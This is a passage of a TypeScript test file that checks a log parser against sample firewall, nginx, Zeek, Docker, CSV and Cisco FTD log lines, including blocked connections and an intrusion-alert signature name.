    const cp = parseText('Mar  5 10:00:01 cpgw CP-GW - Log [Fields@1.3.6.1.4.1.2620 Action="drop" src="203.0.113.122" dst="10.0.0.10" proto="6" s_port="50001" service="3389" time="1709632801"]\n', { year: 2024 });
    expect([cp.rows[0].src_ip, cp.rows[0].src_port, cp.rows[0].dst_port, cp.rows[0].proto, cp.rows[0].action]).toEqual(['203.0.113.122', 50001, 3389, 'TCP', 'reject']);
    const fg = parseText('date=2024-01-05 time=10:00:01 devname="FGT60F" logid="0000000013" type="traffic" srcip=10.0.1.15 srcport=51234 dstip=203.0.113.80 dstport=443 proto=6 action="accept" service="HTTPS"\n');
    expect(fg.detected.layout.mapping.dst_port).toBe('dstport');
    expect(fg.rows[0].dst_port).toBe(443);
  });
});

describe('more exports', () => {
  it('European CSV: dotted dates day first (and slashed ones beside them), decimal commas', () => {
    const r = parseText('\uFEFFDate;Time;Source IP;Destination IP;Destination Port;Protocol;Bytes;Duration;Action\r\n05.03.2024;10:00:00;10.0.0.1;203.0.113.0;443;TCP;1234567;12,5;allow\r\n05/03/2024;11:00:00;10.0.0.9;198.51.100.99;22;TCP;987654321;3600,25;deny\r\n06.03.2024;12:00:00;10.0.0.2;203.0.113.1;443;TCP;1,234;0,75;allow\r\n');
    expect(r.rows.map((e) => [e.ts, e.duration, e.bytes])).toEqual([
      [Date.UTC(2024, 2, 5, 10), 12.5, 1234567],
      [Date.UTC(2024, 2, 5, 11), 3600.25, 987654321],
      [Date.UTC(2024, 2, 6, 12), 0.75, null],
    ]);
  });

  it('nginx JSON log_format with $time_iso8601 and $remote_user', () => {
    const n = parseText(JSON.stringify({ time_iso8601: '2024-03-05T10:00:00+01:00', remote_addr: '203.0.113.1', remote_user: 'admin', request: 'GET /admin/ HTTP/1.1', status: '401', body_bytes_sent: '512' }) + '\n');
    expect([n.rows[0].ts, n.rows[0].user, n.rows[0].status, n.rows[0].bytes]).toEqual([Date.UTC(2024, 2, 5, 9), 'admin', 401, 512]);
  });

  it('Zeek ssh.log: auth_success false is a failed login; nginx JSON "$request" is split; Docker\'s log field is the message', () => {
    const z = parseText(JSON.stringify({ ts: 1709632800.123456, uid: 'C0', 'id.orig_h': '203.0.113.44', 'id.orig_p': 40000, 'id.resp_h': '10.0.0.10', 'id.resp_p': 22, auth_success: false, auth_attempts: 3 }) + '\n');
    expect([z.rows[0].src_ip, z.rows[0].dst_port, z.rows[0].action]).toEqual(['203.0.113.44', 22, 'auth_failure']);
    const n = parseText(JSON.stringify({ time_local: '05/Mar/2024:10:00:00 +0100', remote_addr: '203.0.113.1', request: 'GET /admin/config.php?debug=1 HTTP/1.1', status: '404' }) + '\n');
    expect([n.rows[0].method, n.rows[0].path, n.rows[0].query, n.rows[0].protocol, n.rows[0].status]).toEqual(['GET', '/admin/config.php', 'debug=1', 'HTTP/1.1', 404]);
    const d = parseText(JSON.stringify({ log: '203.0.113.70 - - [05/Mar/2024:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "Mozilla/5.0"\n', stream: 'stdout', time: '2024-03-05T10:00:00.123456789Z' }) + '\n');
    expect(d.detected.layout.mapping).toMatchObject({ message: 'log', ts: 'time' });
    expect(d.rows[0].user_agent).toBeNull();
  });
});

describe("Cisco FTD's own connection and intrusion events (430001-430005)", () => {
  const ev = (id: string, fields: string): string => `Dec  1 09:00:01 ftd01 : %FTD-1-${id}: EventPriority: Low, DeviceUUID: 2a1b, InstanceID: 1, FirstPacketSecond: 2024-12-01T09:00:00Z, ConnectionID: 123, ${fields}`;
  it('a blocked connection start, an allowed end with bytes both ways, and an intrusion event as an IDS alert; a comma in a value does not split it', () => {
    const d = syslog(
      ev('430002', 'AccessControlRuleAction: Block, SrcIP: 203.0.113.9, DstIP: 10.0.0.5, SrcPort: 55555, DstPort: 3389, Protocol: tcp, IngressZone: OUT, EgressZone: IN, ACPolicy: Default, AccessControlRuleName: Block-RDP, InitiatorPackets: 1, ResponderPackets: 0, InitiatorBytes: 60, ResponderBytes: 0'),
      ev('430003', 'AccessControlRuleAction: Allow, SrcIP: 10.0.0.7, DstIP: 198.51.100.20, SrcPort: 51000, DstPort: 443, Protocol: tcp, User: CORP\\bob, ApplicationProtocol: HTTPS, URL: https://files.example/a?x=1, y=2, InitiatorPackets: 900, ResponderPackets: 1200, InitiatorBytes: 5000000, ResponderBytes: 120000, ConnectionDuration: 95'),
      ev('430001', 'SrcIP: 203.0.113.10, DstIP: 10.0.0.80, SrcPort: 40000, DstPort: 80, Protocol: tcp, Priority: 1, GID: 1, SID: 58722, Revision: 3, Message: SERVER-WEBAPP Apache Log4j logging remote code execution attempt, Classification: Attempted User Privilege Gain, Client: cURL, InlineResult: Blocked'),
    );
    expect(d.quarantined).toEqual([]);
    const [block, allow, ids] = d.rows;
    expect([block!.src_ip, block!.dst_ip, block!.dst_port, block!.proto, block!.action, block!.bytes]).toEqual(['203.0.113.9', '10.0.0.5', 3389, 'TCP', 'reject', 60]);
    expect([allow!.action, allow!.bytes, allow!.packets, allow!.duration, allow!.user]).toEqual(['accept', 5000000, 900, 95, 'CORP\\bob']);
    expect(JSON.parse(allow!.extra as string)).toMatchObject({ ResponderBytes: '120000', URL: 'https://files.example/a?x=1, y=2', message_id: '430003' });
    expect([ids!.action, ids!.message, ids!.category]).toEqual(['reject', 'SERVER-WEBAPP Apache Log4j logging remote code execution attempt', 'Attempted User Privilege Gain']);
    expect(JSON.parse(ids!.extra as string)).toMatchObject({ signature_id: '1:58722:3', priority: '1' });
  });
});
